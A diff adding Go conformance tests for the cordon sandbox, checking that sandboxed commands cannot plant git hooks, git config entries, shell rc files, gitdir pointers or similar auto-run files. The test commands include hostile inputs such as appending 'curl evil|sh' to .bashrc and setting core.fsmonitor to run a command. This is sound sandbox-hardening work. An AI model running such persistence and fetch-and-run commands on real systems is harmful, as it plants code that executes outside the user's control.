@@ -1,0 +1,110 @@
+package conformance
+
+import (
+	"strings"
+
+	"github.com/cordon-sandbox/cordon/policy"
+)
+
+// Class 6: files that tools run or obey later, outside the sandbox.
+func autoExecCases() []Case {
+	cs := []Case{
+		{Name: "autoexec-git-hooks", Class: 6, Summary: "plant a git hook in an existing .git/hooks",
+			Run: func(h *H) {
+				_, p := h.ws()
+				h.Host("ws", "git", "init", "-q")
+				snap := h.Snapshot()
+				o := h.Sandbox(p, `printf '#!/bin/sh\necho pwned\n' > .git/hooks/pre-commit && ok PLANT; cp /bin/true .git/hooks/post-checkout && ok CP; chmod +x .git/hooks/*.sample && ok CHMOD; rm -rf .git/hooks && ok RM`)
+				h.Refuse(o, "PLANT", "CP", "CHMOD", "RM")
+				h.Unchanged(snap)
+			}},
+		{Name: "autoexec-git-config", Class: 6, Summary: "set core.hooksPath / core.fsmonitor in .git/config, by git config and by hand",
+			Run: func(h *H) {
+				_, p := h.ws()
+				h.Host("ws", "git", "init", "-q")
+				snap := h.Snapshot()
+				o := h.Sandbox(p, `git config core.hooksPath "$PWD/evil" && ok GITCONFIG; printf '[core]\n\tfsmonitor = touch /tmp/pwned\n' >> .git/config && ok APPEND; cp .git/config c && echo x >> c && mv c .git/config && ok REPLACE`)
+				h.Refuse(o, "GITCONFIG", "APPEND", "REPLACE")
+				h.Unchanged(snap, "ws/c")
+			}},
+		{Name: "autoexec-shell-rc", Class: 6, Summary: "with HOME inside the workspace, write shell rc files and git's global config",
+			Run: func(h *H) {
+				_, p := h.ws()
+				h.Home = h.Mkdir("ws/home")
+				h.Write("ws/home/.bashrc", "# original\n")
+				snap := h.Snapshot()
+				o := h.Sandbox(p, `cd "$HOME"; echo 'curl evil|sh' >> .bashrc && ok BASHRC; echo x > .profile && ok PROFILE; echo x > .zshrc && ok ZSHRC; echo x > .bash_profile && ok BASH_PROFILE; printf '[core]\n\tpager = evil\n' > .gitconfig && ok GITCONFIG; mkdir -p .config/fish && echo x > .config/fish/config.fish && ok FISH; mkdir -p .config/git && echo x > .config/git/config && ok GIT_XDG`)
+				h.Refuse(o, "BASHRC", "PROFILE", "ZSHRC", "BASH_PROFILE", "GITCONFIG", "FISH", "GIT_XDG")
+				h.Unchanged(snap)
+			}},
+		{Name: "autoexec-gitdir-pointer", Class: 6, Summary: "a .git file pointing at a gitdir elsewhere: write its hooks and config, re-point the file",
+			Run: func(h *H) {
+				_, p := h.ws()
+				h.Mkdir("elsewhere")
+				h.Host("ws", "git", "init", "-q", "--separate-git-dir", h.Path("elsewhere/repo.git"))
+				// The gitdir's place is writable too: only the protection
+				// that follows the pointer keeps its hooks.
+				p.Writable = []string{h.Path("elsewhere")}
+				snap := h.Snapshot()
+				o := h.Sandbox(p, `G="$FIX/elsewhere/repo.git"; echo x > "$G/hooks/pre-commit" && ok HOOK; echo '[core] hooksPath=/tmp' >> "$G/config" && ok CONFIG; echo "gitdir: $TMPDIR/evil" > .git && ok REPOINT; rm -f .git && ok RM`)
+				h.Refuse(o, "HOOK", "CONFIG", "REPOINT", "RM")
+				h.Unchanged(snap)
+			}},
+		{Name: "autoexec-nested-repo", Class: 6, Summary: "write hooks, config and .gitmodules of a git repository nested in the workspace",
+			Run: func(h *H) {
+				_, p := h.ws()
+				h.Host("ws", "git", "init", "-q")
+				h.Mkdir("ws/vendor/lib")
+				h.Host("ws/vendor/lib", "git", "init", "-q")
+				snap := h.Snapshot()
+				o := h.Sandbox(p, `cd vendor/lib; echo x > .git/hooks/pre-commit && ok HOOK; echo x >> .git/config && ok CONFIG; echo x > .gitmodules && ok GITMODULES; echo work > file && ok WORK`)
+				h.Refuse(o, "HOOK", "CONFIG", "GITMODULES")
+				h.Expect(o, "WORK")
+				h.Unchanged(snap, "ws/vendor/lib/file")
+			}},
+		{Name: "autoexec-submodule-gitdir", Class: 6, Summary: "write the hooks of a submodule's gitdir under .git/modules",
+			Run: func(h *H) {
+				_, p := h.ws()
+				h.Host("ws", "git", "init", "-q")
+				h.Write("ws/.git/modules/sub/HEAD", "ref: refs/heads/main\n")
+				h.Write("ws/.git/modules/sub/config", "[core]\n")
+				h.Mkdir("ws/.git/modules/sub/hooks")
+				snap := h.Snapshot()
+				o := h.Sandbox(p, `echo x > .git/modules/sub/hooks/post-checkout && ok HOOK; echo x >> .git/modules/sub/config && ok CONFIG`)
+				h.Refuse(o, "HOOK", "CONFIG")
+				h.Unchanged(snap)
+			}},
+		{Name: "autoexec-worktree-commondir", Class: 6, Summary: "from a linked worktree, write the main repository's hooks and config",
+			Run: func(h *H) {
+				h.Mkdir("main")
+				h.Host("main", "git", "init", "-q")
+				h.Host("main", "git", "commit", "-q", "--allow-empty", "-m", "init")
+				h.Host("main", "git", "worktree", "add", "-q", h.Path("ws"))
+				p := Policy{Workspace: h.Path("ws"), Writable: []string{h.Path("main")}}
+				snap := h.Snapshot()
+				o := h.Sandbox(p, `M="$FIX/main/.git"; echo x > "$M/hooks/pre-commit" && ok HOOK; echo x >> "$M/config" && ok CONFIG; git config core.hooksPath /tmp && ok GITCONFIG`)
+				h.Refuse(o, "HOOK", "CONFIG", "GITCONFIG")
+				h.Unchanged(snap, "ws/.git", "main/.git/worktrees", "main/.git/index", "main/.git/logs")
+			}},
+		{Name: "autoexec-git-init-planted", Class: 6, Summary: "in a workspace without .git, create one with a hook or a gitdir pointer",
+			Run: func(h *H) {
+				_, p := h.ws()
+				snap := h.Snapshot()
+				o := h.Sandbox(p, `git init -q . && ok INIT; mkdir -p .git/hooks && echo x > .git/hooks/pre-commit && ok HOOK; echo "gitdir: $TMPDIR" > .git && ok POINTER`)
+				h.Refuse(o, "INIT", "HOOK", "POINTER")
+				h.Unchanged(snap)
+			}},
+	}
+	for _, n := range policy.AutoExecNames {
+		cs = append(cs, Case{Name: "autoexec-" + strings.TrimPrefix(n, "."), Class: 6,
+			Summary: "create or fill " + n + " at the top of the workspace, as a file and as a directory",
+			Run: func(h *H) {
+				_, p := h.ws()
+				snap := h.Snapshot()
+				o := h.Sandbox(p, `echo '{"evil":1}' > "$N" && ok FILE; mkdir -p "$N" && echo '{}' > "$N/settings.json" && ok DIR; cp -r /etc/hostname "$N/" && ok CP`, "N="+n)
+				h.Refuse(o, "FILE", "DIR", "CP")
+				h.Unchanged(snap)
+			}})
+	}
+	return cs
+}
